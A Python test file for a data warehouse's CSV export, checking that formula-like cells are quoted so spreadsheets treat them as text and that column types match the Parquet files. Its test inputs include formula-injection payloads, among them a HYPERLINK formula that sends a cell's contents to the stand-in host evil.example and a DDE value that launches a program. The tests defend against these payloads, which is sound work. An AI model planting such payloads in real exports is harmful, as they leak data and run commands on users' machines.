"""A CSV that is opened in a spreadsheet calculates nothing that a document says, and its numbers are numbers.

With the types of a release's CSV, DuckDB and pandas read the same as in its Parquet, and codes stay text.
"""

import csv
import json

import duckdb
import pandas
import pytest

from warehouse.releases.mart_files import BOM, write_csv
from warehouse.releases.release import released_marts
from warehouse.store import memory


def written(tmp_path, rows):
    with memory() as con:
        path = write_csv(con, rows, tmp_path / "rows.csv")
    content = path.read_bytes()
    assert content.startswith(BOM)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1", "\r=1", "＝1+1",
     "-", "+", "-inf"],
)  # fmt: skip
def test_a_text_that_would_be_calculated_is_a_text(tmp_path, text):
    quoted = text.replace("'", "''")
    assert written(tmp_path, f"SELECT '{quoted}' AS body, 1 AS n") == [["body", "n"], ["'" + text, "1"]]


def test_numbers_and_other_texts_stay_as_they_are(tmp_path):
    rows = (
        "SELECT * FROM (VALUES (-5, -1.50::DECIMAL(9,2), '-5', '+1.5', '-1e3', '许昌市=', '1=1', '', NULL),"
        " (3, 2, '0', 'x', '2023-01-01', ' =1', chr(39) || '=1', 'a', 'b')) ORDER BY 1 DESC"
    )
    assert written(tmp_path, rows)[1:] == [
        ["3", "2.00", "0", "x", "2023-01-01", " =1", "'=1", "a", "b"],
        ["-5", "-1.50", "-5", "+1.5", "-1e3", "许昌市=", "1=1", "", ""],
    ]


CSVS = sorted(t.table.split(".")[1] for t in released_marts() if "csv" in t.released)


@pytest.mark.slow
def test_the_statements_of_a_release_read_its_csv_as_its_parquet(first, monkeypatch):
    monkeypatch.chdir(first.path / "csv")
    with duckdb.connect() as con:
        con.execute((first.path / "csv" / "schema.sql").read_text("utf-8"))
        for name in CSVS:
            read = con.sql(f"FROM {name} ORDER BY ALL").fetchall()
            wanted = con.sql(f"FROM read_parquet('../{name}.parquet') ORDER BY ALL").fetchall()
            assert read == wanted, name


@pytest.mark.slow
@pytest.mark.parametrize("name", CSVS)
def test_the_types_of_a_release_keep_codes_and_whole_numbers_in_pandas(first, name):
    dtypes = json.loads((first.path / "csv" / "dtypes.json").read_text("utf-8"))[name]
    read = pandas.read_csv(first.path / "csv" / f"{name}.csv", dtype=dtypes, encoding="utf-8-sig")
    assert list(read) == list(dtypes)
    for column in {"region_code", "province"} & set(dtypes):
        assert set(read[column].dropna().map(len)) <= {2, 4, 6, 9}
    assert all(str(read[column].dtype) == kind for column, kind in dtypes.items())
